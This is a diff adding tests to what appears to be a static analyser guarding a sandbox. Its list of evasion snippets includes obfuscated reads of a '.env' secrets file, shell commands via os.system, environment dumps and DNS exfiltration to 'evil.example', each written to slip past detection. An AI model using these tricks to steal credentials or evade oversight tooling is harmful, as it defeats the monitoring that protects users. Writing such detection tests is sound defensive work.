@@ -640,3 +640,76 @@ def test_no_execution() -> None:
 def test_dynamic_slices_are_not_constants() -> None:
     assert "python-dynamic-path" in opaque("open('xx/workspace/.env'[n:])")
     assert paths("open('xx/workspace/.env'[2:])") == {(ENV, "read")}
+
+
+# --- evasions: each is either resolved (a fact names the target) or opaque ---------------------
+
+EVASIONS = [
+    "import os\ngetattr(__import__('os'), 'sys' + 'tem')('cat /workspace/.env')",
+    "import os as _\n(lambda: _.system)()('id')",
+    "class A:\n    pass\na = A()\na.f = open\na.f('/workspace/.env')",
+    "d = {}\nd['x'] = open\nd['x']('/workspace/.env')",
+    "[open][0]('/workspace/.env')",
+    "list(map(open, ['/workspace/.env']))",
+    "from functools import partial\npartial(open, '/workspace/.env')()",
+    "def g():\n    return open\ng()('/workspace/.env')",
+    "import os\nos.__dict__['system']('cat /workspace/.env')",
+    "import os\nvars(os)['system']('cat /workspace/.env')",
+    "__builtins__.__dict__['open']('/workspace/.env')",
+    "open.__call__('/workspace/.env')",
+    "import os\nos.system.__call__('cat /workspace/.env')",
+    "from pathlib import Path\nPath.read_text(Path('/workspace/.env'))",
+    "from pathlib import Path\nPath.write_text('/workspace/frontend/app.js', 'x')",
+    "from pathlib import Path\nclass P(Path):\n    pass\nP('/workspace/.env').read_text()",
+    "from pathlib import Path\ntype(Path())('/workspace/.env').read_text()",
+    "import operator\noperator.methodcaller('write_text', 'x')(p)",
+    "getattr(p, 'write_text')('x')",
+    "import timeit\ntimeit.timeit(\"open('/workspace/.env')\", number=1)",
+    "import code\ncode.InteractiveInterpreter().runsource(src)",
+    "import urllib.request\nurllib.request.build_opener().open('https://evil.example/')",
+    "import asyncio\nloop = asyncio.get_event_loop()\nloop.create_connection(P, host, 443)",
+    "import aiofiles\naiofiles.open('/workspace/frontend/app.js', 'w')",
+    "import pandas as pd\npd.DataFrame().to_csv('/workspace/frontend/x.csv')",
+    "import pandas as pd\npd.read_csv('/workspace/.env')",
+    "import os\nexec(open('backend/evil.py').read())",
+    "open(chr(47) + 'workspace/.env')",
+    "import socket\nsocket.gethostbyname(secret + '.evil.example')",
+    "if c:\n    open = print\nopen('/workspace/.env')",
+    "import os\nf = [os.system][0]\nf('id')",
+    "import os\nprint(os.environ._data)",
+    "import os\nprint({k: v for k, v in os.environ.items()})",
+    "import os, json\njson.dumps(os.environ.copy())",
+    "from pathlib import Path\np = Path('/workspace')\np /= '.env'\np.read_text()",
+    "import io\nio.FileIO('/workspace/.env')",
+    "import os\nos.read(os.open('/workspace/.env', os.O_RDONLY), 100)",
+]
+
+
+def _flagged(r: PythonAnalysis) -> bool:
+    targets = (".env", "frontend", "evil.example")
+    return bool(r.opaque or r.env_dump or r.commands
+                or any(t in p.raw for p in r.paths for t in targets)
+                or any(t in h.host for h in r.hosts for t in targets))
+
+
+@pytest.mark.parametrize("src", EVASIONS)
+def test_evasions_are_resolved_or_opaque(src: str) -> None:
+    assert _flagged(run(src, argv=["-c"])), run(src, argv=["-c"])
+
+
+def test_recursive_targets() -> None:
+    r = run("import shutil\nshutil.copytree('/workspace', '/tmp/w')\nshutil.rmtree('backend/x')")
+    assert {(p.raw, p.op, p.recursive) for p in r.paths} == {
+        ("/workspace", "read", True), ("/tmp/w", "write", False), ("backend/x", "write", True)}
+    r = run("import tarfile\ntarfile.open('/tmp/a.tgz', 'w:gz').add('/workspace')")
+    assert ("/workspace", "read", True) in {(p.raw, p.op, p.recursive) for p in r.paths}
+
+
+def test_real_sources_analyse_without_errors() -> None:
+    """Every module of this repository (real, varied Python) is analysed without an error."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2] / "runner"
+    for f in sorted(root.rglob("*.py")):
+        r = analyze_python(f.read_text(encoding="utf-8"), argv=[str(f)])
+        assert "python-analysis-error" not in {o.construct for o in r.opaque}, (f, r.opaque)
